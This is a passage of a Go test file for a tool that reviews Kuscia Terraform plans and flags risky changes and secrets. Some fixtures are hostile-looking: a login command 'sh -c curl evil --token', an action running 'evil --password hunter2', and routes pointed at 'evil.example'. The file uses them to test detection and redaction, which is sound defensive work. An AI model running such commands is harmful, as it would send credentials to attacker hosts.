		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "cert": "x"}, attributes{"domain_id": "alice", "cert": "y"})},
	},
	"another host of a route whose destination is known after apply": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_route.r", replaced, with(toGateway, "endpoint", gateway(true)), without(with(toGateway, "endpoint", with(gateway(true), "host", "evil.example")), "destination"),
				attributes{"after_unknown": attributes{"destination": true}, "replace_paths": []any{[]any{"destination"}}}),
		},
	},
	"another CA of a route whose destination is known after apply": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_route.r", replaced, with(route, "mtls_config", attributes{"tls_ca": "x"}), without(with(route, "mtls_config", attributes{"tls_ca": "y"}), "destination"),
				attributes{"after_unknown": attributes{"destination": true}, "replace_paths": []any{[]any{"destination"}}}),
		},
	},
	"another certificate of a domain whose ID is known after apply": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain.a", replaced, attributes{"domain_id": "alice", "cert": "x"}, attributes{"cert": "y"},
				attributes{"after_unknown": attributes{"domain_id": true}, "replace_paths": []any{[]any{"domain_id"}}}),
		},
	},
	"another CA of a route": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_route.r", replaced, with(route, "mtls_config", attributes{"tls_ca": "x", "source_client_cert": "c"}), with(route, "mtls_config", attributes{"tls_ca": "y", "source_client_cert": "c"})),
		},
		says: []string{
			"This plan lets another CA say who gets the requests of the route from `alice` to `bob` (another value)", "- Requests go to whom another CA vouches for: from `alice` to `bob` (another value)\n",
			"| `alice` | Agree that requests from `alice` to `bob` go to whom another CA vouches for: another value |", "| `bob` | Agree that requests from `alice` to `bob` go to whom another CA vouches for: another value |", "|  | Compare the fingerprint with your own certificate",
		},
	},
	"no CA of a route any longer": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, with(route, "mtls_config", attributes{"tls_ca": "x", "source_client_cert": "c"}), with(route, "mtls_config", attributes{"source_client_cert": "c"}))},
		says:    []string{"- Requests go to whom another CA vouches for: from `alice` to `bob` (removed)\n"},
	},
	"a sensitive CA of a route": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, with(route, "mtls_config", attributes{"tls_ca": "planted-1"}), with(route, "mtls_config", attributes{"tls_ca": "planted-2"}), secretly(attributes{"mtls_config": attributes{"tls_ca": true}}))},
		says:    []string{"- Requests go to whom another CA vouches for: from `alice` to `bob` (another value)\n"}, silent: []string{"planted"},
	},
	"a CA of a route that is known after apply": {
		failOn: "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, attributes{"source": "alice", "destination": "bob", "mtls_config": attributes{"tls_ca": "x"}},
			attributes{"source": "alice", "destination": "bob", "mtls_config": attributes{}}, unknown(attributes{"mtls_config": attributes{"tls_ca": true}}))},
	},
	"certificates of a route that are known after apply": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, attributes{"source": "alice", "destination": "bob"}, attributes{"source": "alice", "destination": "bob"}, unknown(attributes{"mtls_config": true}))},
	},

	// Pods stop.
	"replicas that are known after apply": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(without(party("a"), "replicas")), unknown(attributes{"parties": attributes{"alice": attributes{"replicas": true}}}))},
		says:    []string{"This plan may interrupt the serving `d`.", "| `1` → known after apply | may be interrupted: may scale to 0 |"},
	},
	"a sensitive number of replicas": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a", attributes{"replicas": 0})), secretly(attributes{"parties": attributes{"alice": attributes{"replicas": true}}}))},
		says:    []string{"| (sensitive) | may be interrupted: may scale to 0 |"},
	},
	"all pods of a party may be unavailable": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "100%"))), glm(party("b", strategy("0", "100%"))))},
		says:    []string{"interrupted: restarts, because of `parties.alice.app_image`; update_strategy stops all pods first"},
	},
	"the only pod of a party may be unavailable": {
		failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("1", "1"))), glm(party("b", strategy("1", "1"))))},
	},
	"no pod in addition, and none may be unavailable": { // Kubernetes takes one
		failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "025%"))), glm(party("b", strategy("0", "025%"))))},
	},
	"a sensitive number of pods that may be unavailable": {
		failOn: "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "1"))), glm(party("b", strategy("0", "1"))),
			secretly(attributes{"parties": attributes{"alice": attributes{"update_strategy": attributes{"max_unavailable": true}}}}))},
	},
	"a number of pods that may be unavailable is known after apply": {
		failOn: "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a")), glm(party("b", attributes{"update_strategy": attributes{}})),
			unknown(attributes{"parties": attributes{"alice": attributes{"update_strategy": attributes{"max_unavailable": true}}}}))},
	},
	"a number of pods that this program does not understand": {
		failOn: "interrupted", changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", strategy("0", "many"))), glm(party("b", strategy("0", "many"))))},
	},
	"parties that are known after apply": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), without(deployment(nil), "parties"), unknown(attributes{"parties": true}))},
	},
	"a party that is known after apply": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(nil, attributes{"parties": attributes{}}), unknown(attributes{"parties": attributes{"alice": true}}))},
	},
	"a sensitive update strategy": {
		failOn: "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", recreate)), glm(party("b", recreate)),
			secretly(attributes{"parties": attributes{"alice": attributes{"update_strategy": attributes{"type": true}}}}))},
		says: []string{"because of `parties.alice.app_image`; update_strategy may stop all pods first"}, silent: []string{"Recreate"},
	},
	"an update strategy that is known after apply": {
		failOn: "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a")), glm(party("b", attributes{"update_strategy": attributes{}})),
			unknown(attributes{"parties": attributes{"alice": attributes{"update_strategy": attributes{"type": true}}}}))},
	},
	"an update strategy that stays because the configuration has none": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a", recreate)), deployment(party("b", attributes{"update_strategy": nil})))},
	},
	"sensitive parties": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", recreate)), glm(party("b", recreate)), secretly(attributes{"parties": true}))},
		says:    []string{"This plan may interrupt the serving `glm`", "because of `parties`; update_strategy may stop all pods first"}, silent: []string{"alice", "Recreate"},
	},
	"a sensitive party": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a")), glm(party("a", attributes{"replicas": 0})), secretly(attributes{"parties": attributes{"alice": true}}))},
		says:    []string{"may be interrupted: may scale to 0"},
	},
	"sensitive parties of a serving with a sensitive name": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", recreate)), glm(party("b", recreate)), secretly(attributes{"serving_id": true, "parties": true}))},
		says:    []string{"This plan may interrupt the serving `kuscia_serving.glm`"},
	},
	"a new Rollout does not make an update gradual": {
		failOn: "interrupted",
		fields: configured(map[string]string{"kuscia_deployment.d": "kuscia.a", "kuscia_rollout.d": "kuscia.b"}),
		changes: []attributes{
			change("kuscia_deployment.d", updated, deployment(party("a", recreate)), deployment(party("a", recreate), attributes{"input_config": "b"})),
			change("kuscia_rollout.d", created, nil, planned),
		},
		silent: []string{"step by step, because"},
	},
	"an edge deployment is scaled to 0": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "replicas": 1}, attributes{"name": "psi", "replicas": 0})},
		says:    []string{"interrupts the edge deployment `psi`"},
	},
	"the only instance of an edge deployment is replaced": {
		failOn: "interrupted",
		changes: []attributes{
			change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "replicas": 1, "instance_revision": 1}, attributes{"name": "psi", "replicas": 1, "instance_revision": 2, "toleration_seconds": 3}),
			change("kuscia_edge_deployment.f", updated, attributes{"name": "f", "migration": false}, attributes{"name": "f", "migration": true}),
		},
		says: []string{"This plan interrupts the edge deployments `psi` and `f`.", "- Interrupted: 2 servings (2 parties)\n", "- Pods that restart: 1 of 2 parties; of 1 party it is not known how many\n", "interrupted: all instances are replaced"},
	},
	"all instances of an edge deployment are replaced, in an order that nothing says": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "replicas": 2, "instance_revision": 1}, attributes{"name": "psi", "replicas": 2, "instance_revision": 2, "migration": true})},
		says:    []string{"This plan may interrupt the edge deployment `psi`.", "- May be interrupted, since the number of pods or the update strategy is hidden or not known: 1 serving (1 party)\n", "- Pods that restart: 2 of 1 party\n", "may be interrupted: all instances are replaced"},
	},
	"instances of a sensitive number are replaced": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "replicas": 1, "instance_revision": 1}, attributes{"name": "psi", "replicas": 1, "instance_revision": 2, "migration": true}, secretly(attributes{"replicas": true}))},
		says:    []string{"This plan may interrupt the edge deployment `psi`."},
	},
	"an edge deployment restarts with another secret": {
		failOn: "restart",
		changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "psi", "containers": []any{attributes{"envs": []any{attributes{"value": "a"}}}}},
			attributes{"name": "psi", "containers": []any{attributes{"envs": []any{attributes{"value": "b"}}}}}, secretly(attributes{"containers": []any{attributes{"envs": []any{attributes{"value": true}}}}}))},
	},
	"a serving that ran is replaced because it is tainted": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", replaced, glm(party("a"), attributes{"rollout_complete": true}), glm(party("a")), attributes{"action_reason": "replace_because_tainted"})},
	},
	"a serving for which nobody waited is replaced because it is tainted": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", replaced, glm(party("a"), attributes{"rollout_complete": false, "wait_for_rollout": false}), glm(party("a")), attributes{"action_reason": "replace_because_tainted"})},
	},
	"an action restarts a serving that stops all pods first": {
		failOn: "interrupted",
		fields: attributes{"action_invocations": []any{attributes{
			"address": "action.kuscia_serving_redeploy.glm", "type": "kuscia_serving_redeploy", "name": "glm",
			"provider_name": "registry.terraform.io/terraform-kuscia/kuscia", "config_values": attributes{"serving_id": "glm"},
		}}},
		changes: []attributes{change("kuscia_serving.glm", same, glm(party("a", recreate)), glm(party("a", recreate)))},
	},

	// What others may name goes, and another may be created under its name.
	"an app image that nothing here uses": {
		failOn: "code", changes: []attributes{
			change("kuscia_app_image.a", deleted, appImage("1"), nil), change("kuscia_app_image.c", forgotten, with(appImage("1"), "name", "c"), nil),
			change("kuscia_serving.glm", deleted, glm(party("a")), nil), change("kuscia_serving.c", same, glm(party("c")), glm(party("c"))),
		},
		says: []string{"removes the app image `a`", "- Grants, data, servings and requests elsewhere get what is created under these names, which become free: the app image `a`\n"},
	},
	"an app image that nothing uses": {
		failOn: "code", changes: []attributes{change("kuscia_app_image.a", deleted, appImage("1"), nil), change("kuscia_domain.c", same, attributes{"domain_id": "carol"}, attributes{"domain_id": "carol"})},
		says: []string{"| others, who are not known here | If the app image `a` is used elsewhere: do without it, and look at what is created under its name |"},
	},
	"a data source whose data is elsewhere": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_data_source.f", deleted, localfs("/pub"), nil)},
		says: []string{
			"- Grants, data, servings and requests elsewhere get what is created under these names, which become free: the data source `files` of `alice`\n", "| `alice` | If the data source `files` of `alice` is used elsewhere: do without it, and look at what is created under its name |",
			"| others, who are not known here | If the data source `files` of `alice` is used elsewhere",
		},
	},
	"a data source without its data": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_data_source.f", deleted, localfs("/pub"), nil), change("kuscia_domain_data.s", deleted, inSource, nil)},
		says: []string{"| others, who are not known here | If the data `scores` of `alice` is used elsewhere: do without it, and look at what is created under its name |\n|  | If the data source `files` of `alice` is used elsewhere"},
	},
	"a data source under another name": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_data_source.f", replaced, localfs("/pub"), with(localfs("/pub"), "datasource_id", "other"), attributes{"replace_paths": []any{[]any{"datasource_id"}}})},
		says: []string{"which become free: the data source `files` of `alice`\n"},
	},
	"an entry that nothing here has": {
		failOn: "grant", changes: []attributes{change("kuscia_config.k", deleted, attributes{"key": "k", "value": "x"}, nil)},
		says: []string{"which become free: the configuration entry `k`\n", "| others, who are not known here | If the configuration entry `k` is used elsewhere"},
	},
	"data whose grants are elsewhere": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_data.s", deleted, scores, nil)},
		says: []string{
			"which become free: the data `scores` of `alice`\n", "- Loses access, as far as this plan knows: readers that this plan does not know (`scores` of `alice`: the data is removed)\n",
			"| others, who are not known here | If the data `scores` of `alice` is used elsewhere",
		},
	},
	"a domain that others name": {
		failOn: "grant", changes: []attributes{
			change("kuscia_domain.b", deleted, attributes{"domain_id": "bob"}, nil), change("kuscia_domain_data_grant.b", same, toBob, toBob), change("kuscia_domain.c", same, attributes{"domain_id": "carol"}, attributes{"domain_id": "carol"}),
		},
		says: []string{
			"which become free: the domain `bob`\n", "| `alice` | If the domain `bob` is used elsewhere: do without it, and look at what is created under its name |", "| others, who are not known here | If the domain `bob` is used elsewhere",
		},
	},

	// A change may remove fields that no plan shows.
	"limits of a grant that no plan shows": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data_grant.b", updated, with(toBob, "description", attributes{"a": "a"}), with(with(toBob, "description", attributes{"a": "b"}), "allow_removal_of", []any{"x.y", "limit.initiator", "signature", "limit.initiator"}), attributes{"importing": attributes{"id": "alice/b"}}),
		},
		says: []string{
			"This plan may widen the access of `bob` to `scores`.", "- Sees more, or may use it more: `bob` (`scores` of `alice`: `limit.initiator`, `signature`, `x.y` may be removed)\n",
			"| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, `3` uses; `limit.initiator`, `signature`, `x.y` may be removed |", "| `bob` | `scores` of `alice` | sees more | no end date, `3` uses | no end date, `3` uses; `limit.initiator`, `signature`, `x.y` may be removed |",
		},
	},
	"limits of a grant that no plan shows, allowed before": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data_grant.b", updated, with(toBob, "allow_removal_of", []any{"limit.grantMode"}), with(with(toBob, "allow_removal_of", []any{"limit.grantMode"}), "description", attributes{"a": "b"})),
		},
		says: []string{"This plan may widen the access of `bob` to `scores`.", "`limit.grantMode` may be removed"},
	},
	"limits of a grant that no plan shows, by a replacement": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data_grant.b", replaced, toBob, with(toBob, "allow_removal_of", []any{"limit.grantMode"}))},
		says:    []string{"This plan may widen the access of `bob` to `scores`.", "`limit.grantMode` may be removed"},
	},
	"fields of a grant that are known after apply": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data_grant.b", updated, toBob, with(toBob, "description", attributes{"a": "b"}), unknown(attributes{"allow_removal_of": true}))},
		says:    []string{"This plan may widen the access of `bob` to `scores`.", ": known after apply may be removed)"},
	},
	"sensitive fields of a grant": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data_grant.b", updated, toBob, with(with(toBob, "description", attributes{"a": "b"}), "allow_removal_of", []any{"planted"}), secretly(attributes{"allow_removal_of": true}))},
		says:    []string{"This plan may widen the access of `bob` to `scores` and", "(sensitive) may be removed"}, silent: []string{"planted"},
	},
	"the addresses that a route lets in": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, route, with(with(route, "token_config", attributes{"rolling_update_period": 1}), "allow_removal_of", []any{"sourceWhiteIPList"}))},
		says: []string{
			"This plan may remove fields of the route from `alice` to `bob` (`sourceWhiteIPList`) and replaces", "- May be removed, although no plan shows it: the route from `alice` to `bob` (`sourceWhiteIPList`)\n",
			"|  | Agree that this may be removed, which no plan shows: the route from `alice` to `bob` (`sourceWhiteIPList`) |\n| `bob` | Tell those who get requests from `alice`: they fail while the route is replaced |\n|  | Agree that this may be removed, which no plan shows: the route",
			"| closes and opens again; `sourceWhiteIPList` may be removed |",
		},
	},
	"the format of data": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "name", "a"), with(with(scores, "name", "b"), "allow_removal_of", []any{"fileFormat"})), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"This plan changes what can be read of the data `scores`.", "`bob` (`scores` of `alice`: the data changes: `fileFormat` may be removed)", "| `alice` | Agree that `bob` may see `scores` of `alice`: no end date, `3` uses; the data changes: `fileFormat` may be removed |"},
	},
	"how a new app image is confined": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.a", updated, appImage("1"), with(with(appImage("1"), "deploy_templates", []any{attributes{"replicas": 2}}), "allow_removal_of", []any{"deployTemplates.spec.containers.securityContext"}))},
		says: []string{
			"may remove fields of the app image `a` (`deployTemplates.spec.containers.securityContext`)",
			"| others, who are not known here | Agree that this may be removed, which no plan shows: the app image `a` (`deployTemplates.spec.containers.securityContext`) |",
		},
	},
	"where a party runs": {
		failOn:  "code",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a"), attributes{"affinity_mode": "x", "allow_removal_of": []any{"parties.template.spec.affinity"}}))},
		says:    []string{"| `alice` | Agree that this may be removed, which no plan shows: the serving `d` (`parties.template.spec.affinity`) |"},
	},
	"the quota of a domain": {
		failOn:  "code",
		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice"}, attributes{"domain_id": "alice", "role": "partner", "allow_removal_of": []any{"resourceQuota"}})},
		says:    []string{"| `alice` | Agree that this may be removed, which no plan shows: the domain `alice` (`resourceQuota`) |"},
	},

	// Objects are forgotten.
	"a grant is forgotten": {
		failOn:  "forget",
		changes: []attributes{change("kuscia_domain_data_grant.b", forgotten, toBob, nil)},
		says:    []string{"This plan gives up control of the access of `bob` to `scores`.", "| `bob` | `scores` of `alice` | stays, no longer managed | no end date, `3` uses | no end date, `3` uses; stays, no longer managed |"},
	},
	"a domain is forgotten": {failOn: "forget", changes: []attributes{change("kuscia_domain.c", forgotten, attributes{"domain_id": "carol"}, nil)}},
	"a route is forgotten": {
		failOn: "forget", changes: []attributes{change("kuscia_domain_route.r", forgotten, route, nil)},
		says: []string{"| `alice` | `bob` |  | `Token` | stays, no longer managed |"},
	},
	"a serving is forgotten":   {failOn: "forget", changes: []attributes{change("kuscia_serving.glm", forgotten, glm(party("a")), nil)}},
	"data is forgotten":        {failOn: "forget", changes: []attributes{change("kuscia_domain_data.s", forgotten, scores, nil)}},
	"a Rollout is forgotten":   {failOn: "forget", changes: []attributes{change("kuscia_rollout.d", forgotten, planned, nil)}},
	"an approval is forgotten": {failOn: "forget", changes: []attributes{change("kuscia_rollout_approval.d", forgotten, attributes{"namespace": "alice", "name": "d", "step": 1}, nil)}},
	"a replacement leaves the old serving": {
		failOn:  "forget",
		changes: []attributes{change("kuscia_serving.glm", []string{"create", "forget"}, glm(party("a")), with(glm(party("a")), "serving_id", "glm2"))},
		says:    []string{"starts the serving `glm2`", "gives up control of the serving `glm`"},
	},
	"a replacement of OpenTofu leaves the old serving": {
		failOn:  "forget",
		changes: []attributes{change("kuscia_serving.glm", []string{"forget", "create"}, glm(party("a")), glm(party("a")))},
	},

	// What the program does not know.
	"a resource of another provider": {
		failOn:  "unknown",
		changes: []attributes{change("kubernetes_manifest.grant", created, nil, attributes{"manifest": attributes{"kind": "DomainDataGrant"}}, attributes{"provider_name": "registry.terraform.io/hashicorp/kubernetes"})},
		says:    []string{"This plan changes `kubernetes_manifest.grant` of another provider.", "| `kubernetes_manifest.grant` | created, a resource of another provider |", "| `manifest.kind` | none | `DomainDataGrant` |"},
	},
	"an image of a resource of another provider": {
		failOn: "unknown",
		fields: configured(nil, attributes{"address": "kubernetes_manifest.d", "mode": "managed", "type": "kubernetes_manifest", "name": "d", "expressions": attributes{"manifest": attributes{}}}),
		changes: []attributes{
			change("kubernetes_manifest.d", updated, attributes{"manifest": attributes{"spec": attributes{"image": "a:1", "password": "b"}}, "wait": nil, "object": "x", "hidden": "a"},
				attributes{"manifest": attributes{"spec": attributes{"image": "evil:1", "password": "c"}}, "wait": true, "hidden": "b"},
				attributes{"after_unknown": attributes{"object": true, "id": true}, "before_sensitive": attributes{"hidden": true}, "after_sensitive": attributes{"hidden": true}}),
		},
		says: []string{
			"<code>kubernetes&#95;manifest&#46;d</code>: changed, a resource of another provider</summary>\n\n| Attribute | Before | After |\n| --- | --- | --- |\n| `hidden` | (sensitive) | another value: (sensitive) |\n" +
				"| `manifest.spec.image` | `a:1` | `evil:1` |\n| `manifest.spec.password` | (not shown: it is named like a secret, or contains one) | another value: (not shown: it is named like a secret, or contains one) |\n" +
				"| `object` | `x` | known after apply |\n| `wait` | none | `true` |\n\n",
			"- 2 values that are sensitive or have secrets.", "- What the changes of other providers mean, which are shown and not judged: 1 changed.",
		},
	},
	"a Secret of Kubernetes": {
		failOn: "unknown",
		changes: []attributes{
			change("kubernetes_manifest.s", updated, attributes{"manifest": attributes{"items": []any{attributes{"kind": "Secret", "data": attributes{"a": "czNjcjN0"}}}}}, attributes{"manifest": attributes{"items": []any{attributes{"kind": "Secret", "data": attributes{"a": "czNjcjN1"}}}}}),
			change("kubectl_manifest.s", created, nil, attributes{"yaml_body": "kind: Secret\ndata:\n  a: czNjcjN0\n", "json": `{"kind":"Secret","data":{"a":"czNjcjN0"}}`, "body": "kind: SecretStore\n"}),
		},
		says: []string{
			"| `manifest.items.0.data.a` | (not shown: it is named like a secret, or contains one) | another value: ", "| `yaml_body` | none | (not shown: ", "| `json` | none | (not shown: ", "| `body` | none | `kind: SecretStore` |",
		},
		silent: []string{"czNjcjN"},
	},
	"outputs": {
		failOn: "change",
		fields: attributes{"output_changes": attributes{
			"endpoint":  attributes{"actions": updated, "before": "a.example", "after": "evil.example", "after_unknown": false, "before_sensitive": false, "after_sensitive": false},
			"endpoints": attributes{"actions": updated, "before": attributes{"a": 1, "b": []any{1}}, "after": attributes{"a": 1, "b": []any{2}}, "after_unknown": attributes{}},
			"hidden":    attributes{"actions": updated, "before": "a", "after": "b", "before_sensitive": true, "after_sensitive": true},
			"password":  attributes{"actions": created, "before": nil, "after": "hunter2", "after_unknown": false},
			"later":     attributes{"actions": updated, "before": "a", "after_unknown": true},
			"gone":      attributes{"actions": deleted, "before": "a", "after": nil, "after_unknown": false},
			"same":      attributes{"actions": same, "before": "unchanged", "after": "unchanged"},
		}},
		says: []string{
			"<code>output&#46;endpoint</code>: changed</summary>", "| `endpoint` | `a.example` | `evil.example` |", "| `endpoints.b.0` | `1` | `2` |", "| `hidden` | (sensitive) | another value: (sensitive) |",
			"| `password` | none | (not shown: it is named like a secret, or contains one) |", "| `later` | `a` | known after apply |", "| `gone` | `a` | none |", "- 2 values that are sensitive or have secrets.",
			"Outputs that change: `endpoint`, `endpoints`, `gone`, `hidden`, `later`, `password`.",
		},
		silent: []string{"unchanged", "hunter2"},
	},
	"a data source of another provider that is read in the apply": {
		failOn:  "unknown",
		fields:  configured(nil, attributes{"address": "data.http.x", "mode": "data", "type": "http", "name": "x", "expressions": attributes{"url": attributes{}, "request_headers": attributes{}, "request_body": attributes{}}}),
		changes: []attributes{posted(nil)},
		says: []string{
			"This plan reads `data.http.x` of another provider in the apply (which may do anything).",
			"- Reads in the apply from another provider, which may act there or send data out: `data.http.x` (`method` `POST`, `request_body` known after apply, `url` `http://kuscia/api/v1/domaindatagrant/create`, `request_headers.Authorization` (not shown: it is named like a secret, or contains one))\n",
			"| `data.http.x` | read in the apply, a data source of another provider |", "- What the changes of other providers mean, which are shown and not judged: 1 read.",
			"| `url` | none | `http://kuscia/api/v1/domaindatagrant/create` |",
		},
		silent: []string{"response_body"},
	},
	"an action that the program does not know": {
		failOn: "unknown",
		fields: attributes{"action_invocations": []any{attributes{"address": "action.kuscia_new.x", "type": "kuscia_new", "name": "x", "provider_name": "registry.terraform.io/terraform-kuscia/kuscia", "config_values": attributes{}}}},
		says:   []string{"The action `action.kuscia_new.x` is invoked, which this program does not know."},
	},

	// What is not a change of an object.
	"an action of another provider with arguments": {
		failOn: "provisioner",
		fields: attributes{"action_invocations": []any{attributes{
			"address": "action.local_command.x", "type": "local_command", "name": "x", "provider_name": "registry.terraform.io/hashicorp/local",
			"config_values":    attributes{"command": "sh", "arguments": []any{"-c", "evil --password hunter2"}, "stdin": "AKIA", "environment": attributes{"API_TOKEN": "a1b2c3d4e5"}},
			"config_sensitive": attributes{"stdin": true}, "config_unknown": attributes{"working_directory": true},
		}}},
		says: []string{
			"- Runs a program that this review does not show, which may also send data out: `action.local_command.x` (action of another provider: `command` `sh`, `stdin` (sensitive), `working_directory` known after apply, `arguments.0` `-c`, `arguments.1` `evil --password ***`, `environment.API_TOKEN` (not shown: it is named like a secret, or contains one))",
			"### Values of other providers and of outputs", "| `arguments.1` | none | `evil --password ***` |", "| `stdin` | none | (sensitive) |",
		},
	},
	"an action of another provider": {
		failOn: "change",
		fields: attributes{"action_invocations": []any{attributes{"address": "action.local_command.x", "type": "local_command", "name": "x", "provider_name": "registry.terraform.io/hashicorp/local"}}},
		says:   []string{"This plan lets the program of `action.local_command.x` (action of another provider) do anything."},
	},
	"an action that may run a program": {
		failOn: "code",
		fields: attributes{"action_invocations": []any{attributes{"address": "action.local_command.x", "type": "local_command", "name": "x", "provider_name": "registry.terraform.io/hashicorp/local"}}},
	},
	"a deferred grant": {
		failOn: "incomplete",
		fields: attributes{"deferred_changes": []any{attributes{"reason": "resource_config_unknown", "resource_change": change("kuscia_domain_data_grant.b", created, nil, toBob)}}},
		says: []string{
			"Left for a later plan, and not reviewed here: `kuscia_domain_data_grant.b` (the grant of `scores` of `alice` to `bob`).",
			"| `kuscia_domain_data_grant.b` (the grant of `scores` of `alice` to `bob`) | its configuration is known after apply |",
		},
	},
	"a deferred action": {
		failOn: "incomplete",
		fields: attributes{"deferred_action_invocations": []any{attributes{
			"reason": "provider_config_unknown", "action_invocation": attributes{"address": "action.local_command.x", "type": "local_command", "provider_name": "registry.terraform.io/hashicorp/local"},
		}}},
		says: []string{"| `action.local_command.x` | the configuration of its provider is known after apply |"},
	},
	"a plan that changes the state and says not what": {
		failOn: "change", fields: attributes{"applyable": true}, says: []string{"Nothing changes but the state."},
	},
	"a program by which a provider configuration logs in": {
		failOn: "provisioner",
		fields: attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia", "expressions": attributes{
			"endpoint":   attributes{"constant_value": "https://kuscia.example"},
			"kubernetes": attributes{"constant_value": attributes{"host": "https://k", "exec": attributes{"command": "sh", "args": []any{"-c", "curl evil", "--token", "PLANT"}}}},
		}}}}},
		says: []string{
			"**Kuscia:** 1 provider configuration has run a program to log in. The plan itself changes nothing.", "- Logs in with a program, which has run for this plan: `provider.kuscia` (`sh -c curl evil --token ***`)\n",
			"Kuscia: `kuscia` `https://kuscia.example`.",
		},
		silent: []string{"PLANT"},
	},
	"a program by which another provider logs in": {
		failOn: "provisioner",
		fields: attributes{"configuration": attributes{"provider_config": attributes{
			"module.m:kubernetes": attributes{"name": "kubernetes", "expressions": attributes{"exec": []any{attributes{"command": attributes{"constant_value": "aws"}, "args": attributes{"references": []any{"var.a"}}}}}},
			"kubernetes.b":        attributes{"name": "kubernetes", "expressions": attributes{"exec": []any{attributes{"command": attributes{"references": []any{"var.c"}}}}}},
		}}},
		says: []string{"`provider.module.m:kubernetes` (`aws`)", "`provider.kubernetes.b` (a command that is known when it runs)"},
	},
	"a provisioner of a new domain": {
		failOn:  "code",
		fields:  configured(nil, local("kuscia_domain.c")),
		changes: []attributes{change("kuscia_domain.c", created, nil, attributes{"domain_id": "carol"})},
		says:    []string{"This plan lets the program of `kuscia_domain.c` (provisioner `local-exec`) do anything and adds the domain `carol`."},
	},
	"a provisioner of another provider in a module": {
		failOn:  "code",
		fields:  attributes{"configuration": attributes{"root_module": attributes{"module_calls": attributes{"m": attributes{"module": attributes{"resources": []any{local("terraform_data.x")}}}}}}},
		changes: []attributes{change("terraform_data.x", created, nil, attributes{}, attributes{"address": `module.m["a.b]\"["].terraform_data.x[0]`, "provider_name": "terraform.io/builtin/terraform"})},
	},
	"a provisioner of what is destroyed": {
		failOn:  "code",
		fields:  configured(nil, local("kuscia_domain.c")),
		changes: []attributes{change("kuscia_domain.c", deleted, attributes{"domain_id": "carol"}, nil, attributes{"address": `kuscia_domain.c["x"]`})},
	},

	"a provisioner of a removed block of another provider": {
		failOn:  "provisioner",
		fields:  configured(nil, local("terraform_data.y")),
		changes: []attributes{change("terraform_data.x", deleted, attributes{}, nil, attributes{"provider_name": "terraform.io/builtin/terraform"})},
		says: []string{
			"This plan may run a program of a removed block for `terraform_data.x`", "- May run a program of a removed block, of which a plan says nothing, and which may also send data out: `terraform_data.x`",
			"Cannot be taken back: what the program of `terraform_data.x` does", "- Whether the removed block of 1 resource that is deleted runs a program (a provisioner)",
		},
	},

	// Releases.
	"a pause ends by itself": {
		failOn:  "release",
		changes: []attributes{change("kuscia_rollout.d", updated, with(planned, "canary", steps(attributes{"replicas": "1", "pause": attributes{}})), with(planned, "canary", steps(attributes{"replicas": "1", "pause": attributes{"duration": 0}})))},
	},
	"a Rollout goes on":                  {failOn: "release", changes: []attributes{change("kuscia_rollout.d", updated, with(planned, "paused", true), with(planned, "paused", false))}},
	"a Rollout is disabled":              {failOn: "release", changes: []attributes{change("kuscia_rollout.d", updated, with(planned, "disabled", false), with(planned, "disabled", true))}},
